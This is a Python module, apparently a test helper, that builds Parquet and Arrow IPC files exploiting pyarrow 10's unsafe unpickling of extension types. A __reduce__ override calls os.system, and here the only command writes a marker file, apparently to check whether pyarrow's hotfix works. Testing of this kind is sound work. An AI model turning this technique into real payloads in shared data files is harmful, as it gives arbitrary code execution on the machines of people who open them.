"""Parquet and IPC files that run a command when pyarrow 10 opens them, unless its hotfix is in force."""

from __future__ import annotations

import os
import pathlib
from collections.abc import Callable
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq


def crafted(table: pa.Table, column: str, mark: pathlib.Path) -> pa.Table:
    """Returns the table with a column whose type, when unpickled, writes the file `mark`."""

    class Crafted(pa.PyExtensionType):
        def __init__(self) -> None:
            super().__init__(table.schema.field(column).type)

        def __reduce__(self) -> tuple[Callable[..., Any], tuple[str]]:
            return os.system, (f"echo ran > '{mark}'",)

    at = table.column_names.index(column)
    storage = table[column].combine_chunks()
    return table.set_column(at, column, pa.ExtensionArray.from_storage(Crafted(), storage))


def write_crafted_parquet(table: pa.Table, column: str, mark: pathlib.Path, path: pathlib.Path) -> None:
    pq.write_table(crafted(table, column, mark), path)


def write_crafted_stream(table: pa.Table, column: str, mark: pathlib.Path, path: pathlib.Path) -> None:
    """Writes an IPC file, the format that Feather has too."""
    made = crafted(table, column, mark)
    with pa.ipc.new_file(str(path), made.schema) as writer:
        writer.write_table(made)
